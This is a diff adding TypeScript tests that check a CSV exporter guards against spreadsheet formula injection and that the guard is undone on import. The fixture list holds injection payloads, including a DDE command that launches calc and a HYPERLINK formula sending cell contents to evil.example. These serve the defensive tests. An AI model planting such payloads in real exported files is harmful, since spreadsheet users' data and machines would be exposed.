@@ -5,6 +5,7 @@ import { flowSchema, organizationSchema, siteSchema } from '../domain/entities.t
 import { documentToCsv, parseExchangeCsv, type CsvFile } from './csv.ts';
 import { decodeCell, encodeCell, splitList } from './csv-cells.ts';
 import { CSV_COLUMNS, detectTable } from './csv-columns.ts';
+import { readCsvRows } from './csv-read.ts';
 import { parseExchangeJson, type ExchangeDocument, type ImportProblem } from './document.ts';
 import { loadDemoPortfolio } from './demo.ts';
 import { BRIEF_EXAMPLE_FILLED, everyKeyDocument } from './test-fixtures.ts';
@@ -224,4 +225,44 @@ test('temporal.profile, economics.current_fuel, recovery operations and waste st
   const back = parseExchangeCsv(files(documentToCsv(result.doc)));
   assert.ok(back.ok);
   assert.deepEqual(back.doc, result.doc);
+});
+
+/**
+ * Names as another member could sync them: each would run as a formula in a spreadsheet. (A leading
+ * tab or carriage return is trimmed by the entity schema; csv-write.test.ts covers those.)
+ */
+const FORMULAS = ["=cmd|' /C calc'!A0", '@SUM(1+1)*cmd|\' /C calc\'!A0', '=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+1+1', '-2+3', "'=already quoted", "''@twice", "'plain quote"];
+
+test('formula injection: text that a spreadsheet would run is written with a leading quote, and reads back as it was', () => {
+  const doc = everyKeyDocument();
+  const base = doc.organizations[0]!;
+  doc.organizations = FORMULAS.map((name, i) => ({ ...base, id: `o-${i}`, name, certifications: [name.trim() || 'x', 'ok'] }));
+  doc.sites = doc.sites.map((s) => ({ ...s, organization_id: 'o-0' }));
+  const csv = documentToCsv(doc);
+  // What a spreadsheet reads: no cell starts with a formula character (negative numbers aside).
+  for (const row of readCsvRows(csv.organizations, ',')) {
+    for (const cell of row.cells) assert.doesNotMatch(cell, /^[=+@\t\r]|^-(?![\d.])/, `unguarded cell ${JSON.stringify(cell)} on line ${row.line}`);
+  }
+  assert.ok(csv.organizations.includes(",'=cmd|' /C calc'!A0,"), csv.organizations);
+  assert.ok(csv.organizations.includes(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`));
+  assert.ok(csv.organizations.includes(",''=already quoted,"), 'a quote before a formula character gets one more');
+  assert.ok(csv.organizations.includes(",'plain quote,"), 'a quote before anything else is left as it is');
+  // Negative numbers stay numbers: a site's longitude west of Greenwich.
+  doc.sites = doc.sites.map((s) => ({ ...s, lon: -12.5 }));
+  const withWest = documentToCsv(doc);
+  assert.ok(withWest.sites.includes(',-12.5,'), withWest.sites);
+
+  const result = parseExchangeCsv(files(withWest));
+  assert.ok(result.ok, JSON.stringify(!result.ok && result.problems.slice(0, 3)));
+  assert.deepEqual(result.doc, doc);
+});
+
+test('a guard a spreadsheet user typed (\'=x) is removed on import; other leading quotes are kept', () => {
+  const header = 'id,name';
+  const result = parseExchangeCsv([{ name: 'organizations.csv', text: `${header}\r\no-1,'=SUM(A1)\r\no-2,'Quoted\r\no-3,'-12.5\r\n` }]);
+  assert.ok(result.ok, JSON.stringify(!result.ok && result.problems));
+  assert.deepEqual(
+    result.doc.organizations.map((o) => o.name),
+    ['=SUM(A1)', "'Quoted", '-12.5'],
+  );
 });
